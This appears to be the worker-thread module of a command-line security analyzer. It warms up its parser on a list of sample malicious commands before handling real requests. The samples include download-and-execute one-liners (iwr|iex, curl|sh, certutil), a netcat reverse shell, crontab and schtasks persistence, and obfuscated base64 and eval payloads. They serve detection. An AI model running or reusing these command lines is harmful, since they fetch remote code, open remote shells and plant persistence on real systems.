/**
 * The worker thread's side of worker-command-analyzer.ts: analyses one command line per message.
 * Loaded from TypeScript through tsx's require hook (see the analyzer's WORKER_BOOT).
 */
import { workerData, type MessagePort } from 'node:worker_threads';
import { analyzeCommand } from '../../domain/command-analysis';
import { zlibInflate } from './inflate';

export interface AnalysisRequest {
  id: number;
  commandLine: string;
}

export type AnalysisReply = { id: number; ok: true; analysis: ReturnType<typeof analyzeCommand> } | { id: number; ok: false; error: string };

const WARM_UP = [
  'powershell -nop -w hidden -ep bypass -enc SQBFAFgA -c "iwr http://203.0.113.45/x | iex; certutil -urlcache -f http://a.example.com/x"',
  'cmd.exe /c "po^wer^shell -c ""$s=\'a\'+\'b\'; &(\'{0}{1}\' -f \'ie\',\'x\') ([char[]](105,101,120) -join \'\')"" & schtasks /create /tr "cmd /c x" & rundll32 x.dll,y"',
  "curl -s http://203.0.113.72/i.sh | sh; echo Y3VybCB4IHwgc2g= | base64 -d | bash; bash -c 'nc -e /bin/sh 203.0.113.9 4444' && (crontab -l; echo \"* * * * * wget x\") | crontab -",
  'python3 -c "import base64;exec(base64.b64decode(\'aWQ=\'))" ; php -r \'eval(gzinflate(base64_decode("S0ktLgEA")));\'',
  `mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -c iex x"":close") ${'a'.repeat(4096)}`,
];

/** Replies go on their own port, so the analyzer can look for one synchronously when its timer fires. */
const port = (workerData as { replies?: MessagePort } | undefined)?.replies;
if (port) {
  // Compile the regexes and warm the code of every language before saying ready: the first real
  // analysis is then timed like any other (a cold lexer costs 2-3 times a warm one).
  for (const warm of WARM_UP) analyzeCommand(warm, { inflate: zlibInflate });
  port.on('message', (request: AnalysisRequest) => {
    let reply: AnalysisReply;
    try {
      reply = { id: request.id, ok: true, analysis: analyzeCommand(request.commandLine, { inflate: zlibInflate }) };
    } catch (err) {
      reply = { id: request.id, ok: false, error: err instanceof Error ? err.message : String(err) };
    }
    port.postMessage(reply);
  });
  port.postMessage('ready');
}
